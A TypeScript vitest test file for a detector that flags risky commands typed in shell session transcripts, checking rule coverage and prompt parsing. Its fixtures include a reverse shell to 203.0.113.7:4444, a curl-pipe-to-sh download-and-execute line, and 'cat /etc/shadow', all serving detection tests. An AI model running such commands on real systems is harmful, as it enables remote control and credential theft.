import { describe, expect, it } from 'vitest';
import { CATEGORIES, SEVERITIES } from '../../shared/model/finding';
import { COMMAND_RULES } from '../../shared/rules/command-rules';
import { annotateCommands, createCommandDetector } from '../../shared/transcript/commands';
import type { TranscriptLine } from '../../shared/transcript/types';

const matches = COMMAND_RULES.flatMap((r) => r.examples.match.map((cmd) => [r.id, r.kind, cmd] as const));
const misses = COMMAND_RULES.flatMap((r) => r.examples.noMatch.map((cmd) => [r.id, cmd] as const));

/** Run the detector on one typed command line, as it appears after a bash prompt. */
function detect(command: string) {
  const lines: TranscriptLine[] = [{ n: 1, text: `[ssm-user@ip-10-0-1-23 ~]$ ${command}`, erased: [] }];
  annotateCommands(lines);
  return createCommandDetector().scan(lines, {});
}

describe('command rules', () => {
  it('are well-formed data with unique ids', () => {
    const ids = new Set<string>();
    for (const r of COMMAND_RULES) {
      expect(ids.has(r.id), r.id).toBe(false);
      ids.add(r.id);
      expect(r.id).toMatch(/^cmd-[a-z0-9-]+$/);
      expect(r.category).toBe('risky-command');
      expect(CATEGORIES).toContain(r.category);
      expect(SEVERITIES).toContain(r.severity);
      expect(r.kind).toMatch(/^[A-Z_]+$/);
      expect(r.title.length).toBeGreaterThan(5);
      expect(r.description.length).toBeGreaterThan(20);
      expect(r.playbook.length).toBeGreaterThan(0);
      expect(r.patterns.length).toBeGreaterThan(0);
      expect(r.examples.match.length).toBeGreaterThan(0);
      expect(r.examples.noMatch.length).toBeGreaterThan(0);
    }
  });

  it('cover every command kind of DESIGN.md', () => {
    const kinds = new Set(COMMAND_RULES.map((r) => r.kind));
    for (const k of [
      'REVERSE_SHELL',
      'IMDS_CREDENTIAL_ACCESS',
      'SHADOW_READ',
      'PRIVILEGE_ESCALATION',
      'SUDOERS_TAMPERING',
      'AGENT_STOPPED',
      'HISTORY_TAMPERING',
      'PERSISTENCE_SSH_KEY',
      'USER_CREATED',
      'EXFILTRATION',
      'DOWNLOAD_EXECUTE',
      'DEFENSE_EVASION',
    ]) {
      expect(kinds.has(k), k).toBe(true);
    }
  });

  it.each(matches)('%s (%s) matches: %s', (id, kind, command) => {
    const hits = detect(command).filter((d) => d.ruleId === id);
    expect(hits).toHaveLength(1);
    expect(hits[0]!.kind).toBe(kind);
  });

  it.each(misses)('%s stays quiet on: %s', (id, command) => {
    expect(detect(command).filter((d) => d.ruleId === id)).toEqual([]);
  });

  it('matches the typed command, not program output', () => {
    const lines: TranscriptLine[] = [
      { n: 1, text: '[ssm-user@ip-10-0-1-23 ~]$ less runbook.md', erased: [] },
      { n: 2, text: '- run `curl -fsSL https://203.0.113.7/x.sh | sh` to install', erased: [] },
      { n: 3, text: '$ bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', erased: [] },
      { n: 4, text: '# cat /etc/shadow', erased: [] },
    ];
    annotateCommands(lines);
    expect(createCommandDetector().scan(lines, {})).toEqual([]);
  });
});

describe('prompts', () => {
  it.each([
    ['[ssm-user@ip-10-0-1-23 ~]$ id', 'id'],
    ['[root@ip-10-0-1-23 ~]# id', 'id'],
    ['sh-5.2$ id', 'id'],
    ['bash-4.2# id', 'id'],
    ['ubuntu@ip-10-0-1-23:~/app$ id', 'id'],
    ['root@ip-10-0-1-23:~# id', 'id'],
    ['dev@mac ~ % id', 'id'],
    ['PS C:\\Users\\ssm-user> id', 'id'],
    ['PS /home/ssm-user> id', 'id'],
    ['ec2-app-role[root@ip-10-0-1-23 ~]# id', 'id'],
    ['[root@ip ~]# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1^C', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
  ])('%s → %s', (text, command) => {
    const lines: TranscriptLine[] = [{ n: 1, text, erased: [] }];
    annotateCommands(lines);
    expect(lines[0]!.command).toBe(command);
    expect(lines[0]!.cancelled).toBe(text.endsWith('^C') ? true : undefined);
  });

  it.each([
    '# a comment in a config file',
    '$ curl x | sh   (a runbook line)',
    'total 92',
    'mail bob@example.com # x',
  ])('no command on: %s', (text) => {
    const lines: TranscriptLine[] = [{ n: 1, text, erased: [] }];
    annotateCommands(lines);
    expect(lines[0]!.command).toBeUndefined();
  });
});
